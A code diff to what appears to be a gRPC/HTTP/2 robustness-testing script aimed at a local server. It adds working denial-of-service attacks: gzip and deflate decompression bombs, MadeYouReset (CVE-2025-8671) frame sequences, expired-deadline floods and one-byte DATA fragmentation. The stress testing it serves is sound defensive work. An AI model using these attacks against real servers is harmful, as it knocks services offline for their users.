@@ -12,21 +12,28 @@ is opened again, as an attacker would.
 
 Attacks (ATTACKS below has one line on each): rapid-reset, stream-flood,
 continuation-flood, big-header, hpack-bomb, ping-flood, settings-flood,
-empty-data-flood, zero-window, never-read, churn, hoard (--connections
-idle connections held open). Prints one JSON line:
-streams opened, frames sent, connections opened, GOAWAYs received.
+empty-data-flood, zero-window, never-read, gzip-bomb, deflate-bomb
+(--inflated-mib), window-update-zero, data-after-end-stream,
+data-past-window, tiny-timeout, one-byte-data (--message-kib), churn,
+hoard (--connections idle connections held open). Prints one JSON line:
+streams opened, bytes sent, connections opened, GOAWAYs received, and
+what the server answered: RST_STREAMs by error code and grpc-status
+values by code, and the commonest grpc-message texts.
 """
 
 import argparse
+import collections
 import json
 import resource
 import socket
 import struct
 import sys
 import time
+import urllib.parse
+import zlib
 from pathlib import Path
 
-from hpack import Encoder, NeverIndexedHeaderTuple
+from hpack import Decoder, Encoder, NeverIndexedHeaderTuple
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
@@ -36,11 +43,12 @@ from hyperframe.frame import (
     PingFrame,
     RstStreamFrame,
     SettingsFrame,
+    WindowUpdateFrame,
 )
 
 # Run as a script of its own: interop/ on sys.path for the shared harness.
 sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
-from harness.wire import grpc_frame  # noqa: E402
+from harness.wire import grpc_frame, varint  # noqa: E402
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
@@ -49,9 +57,12 @@ CANCEL = 0x8
 STREAMS_PER_WRITE = 64
 # Client stream ids are odd and below 2**31.
 LAST_STREAM_ID = 2**31 - 1
+# RFC 9113's defaults, until the server's SETTINGS say otherwise.
+DEFAULT_WINDOW = 65_535
+DEFAULT_MAX_FRAME = 16_384
 
 
-def grpc_request(method: str, authority: str, message: bytes):
+def grpc_request(method: str, authority: str, message: bytes, extra_headers=()):
     """The header block and the DATA payload of one gRPC request. Headers
     are never indexed, so the same block is valid on every stream."""
     headers = [
@@ -61,9 +72,13 @@ def grpc_request(method: str, authority: str, message: bytes):
         NeverIndexedHeaderTuple(":authority", authority),
         NeverIndexedHeaderTuple("content-type", "application/grpc"),
         NeverIndexedHeaderTuple("te", "trailers"),
-    ]
+    ] + [NeverIndexedHeaderTuple(name, value) for name, value in extra_headers]
     block = Encoder().encode(headers, huffman=False)
     return block, grpc_frame(message)
+
+
+class Gone(Exception):
+    """The connection is closed, or the attack's time is up."""
 
 
 class Connection:
@@ -81,6 +96,23 @@ class Connection:
         self.next_stream_id = 1
         self.inbound = bytearray()
         self.goaways = 0
+        # What the server answered: its header blocks decoded in order (an
+        # HPACK decoder must see every block), grpc-status by value and
+        # RST_STREAM by error code.
+        self.decoder = Decoder()
+        self.header_block = bytearray()
+        self.statuses = collections.Counter()
+        self.messages = collections.Counter()
+        self.resets = collections.Counter()
+        # The DATA payloads of the server's replies, in the order they came,
+        # kept only when asked for (keep_replies): a flood's would be large.
+        self.keep_replies = False
+        self.replies = bytearray()
+        # The server's flow-control windows for what this client sends.
+        self.connection_window = DEFAULT_WINDOW
+        self.initial_stream_window = DEFAULT_WINDOW
+        self.stream_windows = {}
+        self.max_frame = DEFAULT_MAX_FRAME
 
     def new_stream_id(self) -> int:
         stream_id = self.next_stream_id
@@ -111,14 +143,89 @@ class Connection:
             frame.parse_body(memoryview(self.inbound[9:9 + length]))
             del self.inbound[:9 + length]
             if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+                self.apply_settings(frame.settings)
                 replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
             elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                 replies.append(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
             elif isinstance(frame, GoAwayFrame):
                 self.goaways += 1
+            elif isinstance(frame, WindowUpdateFrame):
+                if frame.stream_id == 0:
+                    self.connection_window += frame.window_increment
+                elif frame.stream_id in self.stream_windows:
+                    self.stream_windows[frame.stream_id] += frame.window_increment
+            elif isinstance(frame, DataFrame) and self.keep_replies:
+                self.replies += frame.data
+            elif isinstance(frame, RstStreamFrame):
+                self.resets[frame.error_code] += 1
+                self.stream_windows.pop(frame.stream_id, None)
+            elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
+                if "END_STREAM" in frame.flags:
+                    self.stream_windows.pop(frame.stream_id, None)
+                self.header_block += frame.data
+                if "END_HEADERS" in frame.flags:
+                    self.read_header_block()
         if replies:
             return self.send(b"".join(replies))
         return True
+
+    def apply_settings(self, settings: dict):
+        window = settings.get(SettingsFrame.INITIAL_WINDOW_SIZE)
+        if window is not None:
+            delta = window - self.initial_stream_window
+            self.initial_stream_window = window
+            for stream_id in self.stream_windows:
+                self.stream_windows[stream_id] += delta
+        self.max_frame = settings.get(SettingsFrame.MAX_FRAME_SIZE, self.max_frame)
+
+    def read_header_block(self):
+        headers = self.decoder.decode(bytes(self.header_block), raw=True)
+        self.header_block.clear()
+        for name, value in headers:
+            if name == b"grpc-status":
+                self.statuses[int(value)] += 1
+            elif name == b"grpc-message":
+                self.messages[urllib.parse.unquote(value.decode())] += 1
+
+    def open_stream(self, block: bytes, end_stream: bool = False) -> int:
+        """Sends a request's header block on a new stream; its id."""
+        stream_id = self.new_stream_id()
+        self.stream_windows[stream_id] = self.initial_stream_window
+        if not self.send(header_frames(stream_id, block, end_stream=end_stream)):
+            raise Gone
+        return stream_id
+
+    def send_data(self, stream_id: int, payload: bytes, end_stream: bool = True,
+                  frame_size: int = 0):
+        """Sends `payload` on a stream as DATA frames of at most
+        `frame_size` bytes (0: as large as the server allows), each within
+        the server's windows, reading its WINDOW_UPDATEs while it waits for
+        room. Stops early if the server resets the stream; raises Gone if
+        it closes the connection or the attack's time is up."""
+        view = memoryview(payload)
+        while view:
+            if stream_id not in self.stream_windows:
+                return  # reset by the server
+            room = min(len(view), self.connection_window, self.stream_windows[stream_id])
+            if room == 0:
+                if time.monotonic() > self.deadline:
+                    raise Gone
+                time.sleep(0.001)
+                if not self.answer():
+                    raise Gone
+                continue
+            size = frame_size or self.max_frame
+            chunk, view = view[:room], view[room:]
+            last = END_STREAM if end_stream and not view else 0
+            frames = [raw_frame(DATA, 0, stream_id, bytes(chunk[i:i + size]))
+                      for i in range(0, room - size, size)]
+            tail = (room - 1) // size * size
+            frames.append(raw_frame(DATA, last, stream_id, bytes(chunk[tail:])))
+            if not self.send(b"".join(frames)):
+                raise Gone
+            self.connection_window -= room
+            if stream_id in self.stream_windows:  # not reset meanwhile
+                self.stream_windows[stream_id] -= room
 
     def send(self, data: bytes) -> bool:
         """Writes all of `data`, waiting for room until the attack's
@@ -149,6 +256,7 @@ class Connection:
 
 
 GET_SEQUENCE_46 = ("/fibonacci.Fibonacci/GetSequence", b"\x08\x2e")
+AT_INDEX = "/fibonacci.Fibonacci/AtIndex"
 
 
 def junk_header_block(size: int) -> bytes:
@@ -179,7 +287,7 @@ class Attack:
     reads = True
     streams_per_batch = STREAMS_PER_WRITE
 
-    def __init__(self, port: int):
+    def __init__(self, port: int, **_):
         method, message = GET_SEQUENCE_46
         self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message)
 
@@ -315,6 +423,141 @@ class NeverRead(ZeroWindow):
     reads = False
 
 
+def raw_frame(frame_type: int, flags: int, stream_id: int, payload: bytes) -> bytes:
+    """A frame built by hand, for what hyperframe refuses to build (a
+    WINDOW_UPDATE of 0) or builds too slowly (a million one-byte DATA
+    frames)."""
+    return len(payload).to_bytes(3, "big") + bytes([frame_type, flags]) \
+        + stream_id.to_bytes(4, "big") + payload
+
+
+DATA, WINDOW_UPDATE = 0x0, 0x8
+END_STREAM = 0x1
+
+
+def compressed_zeros(algorithm: str, inflated: int) -> bytes:
+    """`inflated` zero bytes compressed as gRPC's gzip or deflate (zlib's
+    format) would carry them, at the best ratio either allows (about
+    1,000 to 1)."""
+    wbits = 31 if algorithm == "gzip" else 15
+    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
+    chunk = bytes(1 << 20)
+    parts = [compressor.compress(chunk) for _ in range(inflated // len(chunk))]
+    parts.append(compressor.compress(bytes(inflated % len(chunk))))
+    parts.append(compressor.flush())
+    return b"".join(parts)
+
+
+class DecompressionBomb(Attack):
+    """AtIndex requests each carrying one compressed message of zeros
+    that inflates to --inflated-mib MiB, sent within the server's
+    flow-control windows, one after another on each connection without
+    waiting for the answers."""
+
+    algorithm = "gzip"
+    streams_per_batch = 1
+
+    def __init__(self, port: int, inflated_mib: int = 256, **_):
+        self.block, _ = grpc_request(AT_INDEX, f"127.0.0.1:{port}", b"",
+                                     extra_headers=[("grpc-encoding", self.algorithm)])
+        compressed = compressed_zeros(self.algorithm, inflated_mib << 20)
+        # The gRPC prefix: compressed (1), then the length on the wire.
+        self.payload = b"\x01" + len(compressed).to_bytes(4, "big") + compressed
+
+    def batch(self, conn, count):
+        conn.send_data(conn.open_stream(self.block), self.payload)
+        return b"", 1
+
+
+class GzipBomb(DecompressionBomb):
+    algorithm = "gzip"
+
+
+class DeflateBomb(DecompressionBomb):
+    algorithm = "deflate"
+
+
+class WindowUpdateZero(Attack):
+    """MadeYouReset (CVE-2025-8671): a whole GetSequence(46) request, then
+    a WINDOW_UPDATE of 0 on its stream, which the server must answer by
+    resetting the stream; the handler it started must not outlive the
+    reset unaccounted."""
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
+            frames.append(raw_frame(WINDOW_UPDATE, 0, stream_id, bytes(4)))
+        return b"".join(frames), count
+
+
+class DataAfterEndStream(Attack):
+    """MadeYouReset: a whole GetSequence(46) request, then one more DATA
+    frame on its half-closed stream (a stream error, STREAM_CLOSED)."""
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
+            frames.append(raw_frame(DATA, 0, stream_id, b"x"))
+        return b"".join(frames), count
+
+
+class DataPastWindow(Attack):
+    """MadeYouReset: a GetSequence(46) request followed by zeros up to
+    exactly the stream's flow-control window, then one byte past it."""
+
+    streams_per_batch = 1
+
+    def batch(self, conn, count):
+        stream_id = conn.open_stream(self.block)
+        window = conn.stream_windows[stream_id]
+        conn.send_data(stream_id, self.payload + bytes(max(0, window - len(self.payload))),
+                       end_stream=False)
+        return raw_frame(DATA, 0, stream_id, b"x"), 1
+
+
+class TinyTimeout(Attack):
+    """Whole GetSequence(46) requests carrying `grpc-timeout: 1n`: every
+    call's deadline has passed when it arrives, and the server cancels
+    each itself."""
+
+    def __init__(self, port: int, **_):
+        method, message = GET_SEQUENCE_46
+        self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message,
+                                                extra_headers=[("grpc-timeout", "1n")])
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
+        return b"".join(frames), count
+
+
+class OneByteData(Attack):
+    """AtIndex(7) requests of --message-kib KiB (the value, then an
+    unknown field of zeros the server skips), each sent as one-byte DATA
+    frames within the server's windows: nine bytes of frame header per
+    byte of message, for the server to put back together."""
+
+    streams_per_batch = 1
+
+    def __init__(self, port: int, message_kib: int = 1024, **_):
+        filler = message_kib * 1024 - 16
+        message = b"\x08\x07" + b"\x12" + varint(filler) + bytes(filler)
+        self.block, self.payload = grpc_request(AT_INDEX, f"127.0.0.1:{port}", message)
+
+    def batch(self, conn, count):
+        conn.send_data(conn.open_stream(self.block), self.payload, frame_size=1)
+        return b"", 1
+
+
 ATTACKS = {
     "rapid-reset": RapidReset,
     "stream-flood": StreamFlood,
@@ -326,7 +569,19 @@ ATTACKS = {
     "empty-data-flood": EmptyDataFlood,
     "zero-window": ZeroWindow,
     "never-read": NeverRead,
+    "gzip-bomb": GzipBomb,
+    "deflate-bomb": DeflateBomb,
+    "window-update-zero": WindowUpdateZero,
+    "data-after-end-stream": DataAfterEndStream,
+    "data-past-window": DataPastWindow,
+    "tiny-timeout": TinyTimeout,
+    "one-byte-data": OneByteData,
 }
+
+
+# How long the attacker keeps reading once it has stopped writing, for the
+# server's answers to its last streams.
+ANSWER_LINGER_S = 0.5
 
 
 def run(attack: Attack, port: int, connections: int, seconds: float, max_streams: int) -> dict:
@@ -334,6 +589,14 @@ def run(attack: Attack, port: int, connections: int, seconds: float, max_streams
     passed or `max_streams` streams were opened."""
     deadline = time.monotonic() + seconds
     totals = {"streams": 0, "bytes": 0, "connections_opened": 0, "goaways": 0}
+    statuses, messages, resets = collections.Counter(), collections.Counter(), collections.Counter()
+
+    def retire(conn):
+        totals["goaways"] += conn.goaways
+        statuses.update(conn.statuses)
+        messages.update(conn.messages)
+        resets.update(conn.resets)
+        conn.close()
 
     def connect():
         conn = Connection(port, deadline, settings=attack.settings, reads=attack.reads)
@@ -350,21 +613,31 @@ def run(attack: Attack, port: int, connections: int, seconds: float, max_streams
             count = min(attack.streams_per_batch, max_streams - totals["streams"])
             alive = conn.next_stream_id + 2 * count < LAST_STREAM_ID and conn.answer()
             if alive:
-                data, streams = attack.batch(conn, count)
-                alive = conn.send(data)
+                try:
+                    data, streams = attack.batch(conn, count)
+                    alive = conn.send(data)
+                except Gone:
+                    alive = False
             if alive:
                 totals["streams"] += streams
                 totals["bytes"] += len(data)
                 continue
-            totals["goaways"] += conn.goaways
-            conn.close()
+            retire(conn)
             try:
                 opened[index] = connect()
             except OSError:
                 time.sleep(0.01)
+    # What the server answered to the last streams: read for a moment
+    # more (the attack has stopped writing).
+    linger = time.monotonic() + ANSWER_LINGER_S
     for conn in opened:
-        totals["goaways"] += conn.goaways
-        conn.close()
+        conn.deadline = linger
+        while time.monotonic() < linger and conn.reads and conn.answer():
+            time.sleep(0.01)
+        retire(conn)
+    totals["statuses"] = {str(code): count for code, count in sorted(statuses.items())}
+    totals["messages"] = dict(messages.most_common(4))
+    totals["resets"] = {str(code): count for code, count in sorted(resets.items())}
     return totals
 
 
@@ -420,13 +693,19 @@ def main():
     parser.add_argument("--seconds", type=float, default=6.0)
     parser.add_argument("--max-streams", type=int, default=5_000_000,
                         help="streams opened in all (churn: connections)")
+    parser.add_argument("--inflated-mib", type=int, default=256,
+                        help="gzip-bomb, deflate-bomb: what each message inflates to")
+    parser.add_argument("--message-kib", type=int, default=1024,
+                        help="one-byte-data: each request message's size")
     args = parser.parse_args()
     if args.attack == "churn":
         result = churn(args.port, args.seconds, args.max_streams)
     elif args.attack == "hoard":
         result = hoard(args.port, args.seconds, args.connections)
     else:
-        result = run(ATTACKS[args.attack](args.port), args.port, args.connections, args.seconds,
+        attack = ATTACKS[args.attack](args.port, inflated_mib=args.inflated_mib,
+                                      message_kib=args.message_kib)
+        result = run(attack, args.port, args.connections, args.seconds,
                      args.max_streams)
     print(json.dumps(result), flush=True)
 
